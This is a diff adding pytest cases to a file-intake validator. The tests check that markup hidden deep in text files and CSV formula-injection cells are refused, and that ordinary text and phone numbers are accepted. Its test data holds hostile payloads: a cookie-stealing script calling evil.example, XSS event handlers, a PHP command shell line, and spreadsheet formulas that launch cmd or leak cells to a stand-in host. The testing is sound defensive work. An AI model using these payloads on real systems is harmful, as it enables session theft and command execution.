@@ -58,7 +58,10 @@ def test_other_binary_types_are_named(data, found):
         ("\ufeff<!doctype HTML>", "an HTML document"),
         ("<?php system($_GET['c']); ?>", "a PHP script"),
         ("<div>hello</div>", "an HTML or XML document"),
-        ("Dear team,\nplease see <iframe src=x></iframe>\n", "a text file containing HTML or XML markup"),
+        (
+            "Dear team,\nplease see <iframe src=x></iframe>\n",
+            "a text file containing HTML, XML or script (on line 2: '<iframe')",
+        ),
     ],
 )
 def test_markup_disguised_as_text_is_refused(text, found):
@@ -148,3 +151,72 @@ def test_errors_are_value_errors_with_codes():
     with pytest.raises(ValueError) as caught:
         intake(b"\x7fELF" + bytes(10), "x")
     assert caught.value.code == "type"
+
+
+FILLER = "Fire drill held on the first Monday and everyone was out in four minutes.\n" * 200
+
+
+@pytest.mark.parametrize(
+    "hidden",
+    [
+        "<script>fetch('https://evil.example/?'+document.cookie)</script>",
+        "<svg xmlns='http://www.w3.org/2000/svg'><circle r='4'/></svg>",
+        "<html><body>hi</body></html>",
+        "<?xml version='1.0'?><note/>",
+        "<!DOCTYPE html>",
+        "<IMG SRC=x onerror=alert(1)>",
+        "<a href='#' onclick = 'steal()'>open</a>",
+        "<b style=x onmouseover=alert(1)>hover</b>",
+        "see javascript:alert(document.domain) for details",
+        "link: JaVa\tScRiPt:alert(1)",
+        "vbscript:msgbox(1)",
+        "data:text/html;base64,PHNjcmlwdD4=",
+        "<iframe src='https://evil.example'></iframe>",
+    ],
+)
+def test_markup_after_the_first_kilobyte_is_refused(hidden):
+    data = (FILLER + hidden + "\n" + FILLER).encode()
+    assert len(FILLER) > 10_000
+    message = refusal(data, "drill-log.txt")
+    assert message.startswith("This file is a text file containing HTML, XML or script (on line 201")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "waiting time <2 weeks and >1 day\n",
+        "the on-call rota: Asha <asha at example dot org> (on=duty)\n",
+        "We use Java and JavaScript sparingly; scripts are reviewed.\n",
+        "Ratio 3 < 4 and formula a<b>c\n",
+    ],
+)
+def test_ordinary_text_with_angle_brackets_or_script_words_is_accepted(text):
+    assert intake((FILLER + text).encode(), "notes.txt").mime_type == "text/plain"
+
+
+@pytest.mark.parametrize(
+    "row",
+    [
+        'Fire exits,=cmd|"/C calc"!A0',
+        "Fire exits;=cmd|' /C calc'!A0,open",  # one cell in a comma file, two where ; splits
+        'Exit plan,"=HYPERLINK(""https://evil.example/?""&A1,""open"")"',
+        'Exit plan,"=1+1"',
+        "Exit plan,@SUM(1+1)*cmd|' /C calc'!A0",
+        "Exit plan,+A1+cmd|' /C calc'!A0",
+        "Exit plan,-2+3+cmd|' /C calc'!A0",
+        "Exit plan,\t=1+1",
+    ],
+)
+def test_csv_with_a_formula_cell_anywhere_is_refused(row):
+    data = ("item,status\n" + "Door lock,checked\n" * 500 + row + "\n").encode()
+    with pytest.raises(IntakeError) as caught:
+        intake(data, "checks.csv")
+    assert caught.value.code == "text"
+    assert str(caught.value).startswith("This CSV file has a cell that a spreadsheet would run as a formula (line 502")
+    assert "Remove the leading =, +, - or @" in str(caught.value)
+
+
+def test_csv_with_negative_numbers_and_phone_numbers_is_accepted():
+    data = b"name,phone,balance\nHelpline,+44 20 7946 0000,-5.50\nRefuge,-,+3\nOffice,(020) 7946-0001,-\n"
+    result = intake(data, "contacts.csv")
+    assert result.mime_type == "text/csv" and result.content == data
